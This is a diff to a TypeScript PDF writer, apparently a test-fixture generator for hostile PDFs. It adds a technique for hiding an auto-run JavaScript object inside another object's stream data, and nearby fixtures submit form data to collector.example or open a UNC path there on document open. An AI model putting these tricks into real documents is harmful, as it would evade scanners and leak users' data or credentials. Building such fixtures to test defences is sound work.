@@ -6,7 +6,8 @@
  */
 import zlib from 'node:zlib'
 
-type PdfObject = { id: number; body: string | Buffer }
+/** `hides`: an object written inside this one's stream data, which the cross-reference table points into. */
+type PdfObject = { id: number; body: string | Buffer; hides?: { id: number; body: string } }
 
 const PAGE_TEXT = (text: string) => `BT /F1 18 Tf 72 700 Td (${text}) Tj ET`
 
@@ -19,9 +20,12 @@ export function writePdf(objects: PdfObject[]): Buffer {
   const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')]
   let offset = parts[0]!.length
   const first = new Map<number, number>()
-  for (const { id, body } of objects) {
+  for (const { id, body, hides } of objects) {
     if (!first.has(id)) first.set(id, offset)
-    const bytes = Buffer.concat([Buffer.from(`${id} 0 obj\n`, 'latin1'), Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'), Buffer.from('\nendobj\n', 'latin1')])
+    const hidden = hides ? `${hides.id} 0 obj\n${hides.body}\nendobj\n` : ''
+    const content = hides ? stream('', `% data\n${hidden}`) : Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1')
+    const bytes = Buffer.concat([Buffer.from(`${id} 0 obj\n`, 'latin1'), content, Buffer.from('\nendobj\n', 'latin1')])
+    if (hides) first.set(hides.id, offset + bytes.indexOf(hidden, 0, 'latin1'))
     parts.push(bytes)
     offset += bytes.length
   }
@@ -52,6 +56,10 @@ export function hostilePdfs(): [string, Buffer][] {
     [
       'duplicate object number, JavaScript first',
       writePdf([...onePage('Duplicate', { catalog: '/OpenAction 6 0 R' }), { id: 6, body: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>' }, { id: 6, body: '<< /S /GoTo /D [3 0 R /Fit] >>' }]),
+    ],
+    [
+      'JavaScript object inside another stream\'s data',
+      writePdf([...onePage('Hidden', { catalog: '/OpenAction 6 0 R' }), { id: 7, body: '', hides: { id: 6, body: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>' } }]),
     ],
     ['SubmitForm on open', writePdf(onePage('Submit', { catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://collector.example/form) >> >>' }))],
     ['GoToR to a UNC path', writePdf(onePage('Remote', { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\collector.example\\\\share\\\\a.pdf) /D [0 /Fit] >>' }))],
